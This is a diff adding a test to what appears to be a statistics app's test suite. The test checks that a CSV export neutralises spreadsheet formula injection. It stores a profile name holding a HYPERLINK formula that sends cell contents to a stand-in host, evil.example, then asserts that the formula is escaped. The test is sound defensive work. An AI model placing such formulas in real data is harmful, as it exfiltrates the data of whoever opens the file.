@@ -121,6 +121,35 @@ describe("the ministry's national statistics", () => {
     }
   })
 
+  it("neutralises a formula in an MPP's name in the CSV", async () => {
+    const admin = await loginCookie(t, tenants.samarinda.host, 'admin@samarinda.test')
+    const profile = await (
+      await t.request(tenants.samarinda.host, '/api/admin/profile', { headers: { cookie: admin } })
+    ).json()
+    const formula = '=HYPERLINK("https://evil.example/x?d="&A1,"klik")'
+    const rename = (name: string) =>
+      t.request(tenants.samarinda.host, '/api/admin/profile', {
+        method: 'PUT',
+        headers: {
+          'content-type': 'application/json',
+          cookie: admin,
+          origin: `http://${tenants.samarinda.host}`,
+        },
+        body: JSON.stringify({
+          name,
+          address: profile.address,
+          email: profile.email,
+          branding: profile.branding,
+        }),
+      })
+    const saved = await rename(formula)
+    expect(saved.status, await saved.text()).toBe(200)
+    const csv = (await get('/kementerian/statistik.csv?from=2026-11&to=2026-11')).body as string
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/x?d=""&A1,""klik"")"`)
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m)
+    expect((await rename(profile.name)).status).toBe(200)
+  })
+
   it('shows the dashboard with its chart and ranking, the CSV and the drill-down page', async () => {
     const page = await get('/kementerian/statistik?from=2026-11&to=2026-11&rank=served')
     expect(page.status).toBe(200)
